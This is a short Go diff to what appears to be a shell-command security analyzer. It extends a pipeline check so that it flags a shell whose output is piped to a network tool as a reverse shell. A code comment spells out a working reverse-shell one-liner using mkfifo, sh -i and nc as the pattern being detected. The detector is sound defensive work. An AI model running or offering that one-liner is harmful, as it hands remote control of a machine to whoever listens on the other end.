@@ -104,14 +104,23 @@ func (z *analyzer) pipeline(b *syntax.BinaryCmd) {
 // piping finds downloaded content flowing into a shell or interpreter along a pipeline's n stages;
 // stage(i, pred) reports whether pred holds for a command of stage i.
 func (z *analyzer) piping(n int, stage func(i int, pred func(Command) bool) bool) {
-	fetched := false
+	fetched, shell := false, false
 	for i := range n {
 		if fetched && stage(i, readsCodeFromStdin) {
 			z.finding(RemoteCode, "downloaded content is piped into a shell or interpreter")
 			return
 		}
 		if stage(i, isFetcher) {
+			if shell {
+				// a shell reading its input here and writing to a network peer: with a fifo closing the
+				// loop (mkfifo f; cat f | sh -i | nc host port > f), the peer drives the shell
+				z.finding(ReverseShell, "a shell's output is piped to a network peer")
+				return
+			}
 			fetched = true
+		}
+		if stage(i, readsCodeFromStdin) {
+			shell = true
 		}
 	}
 }
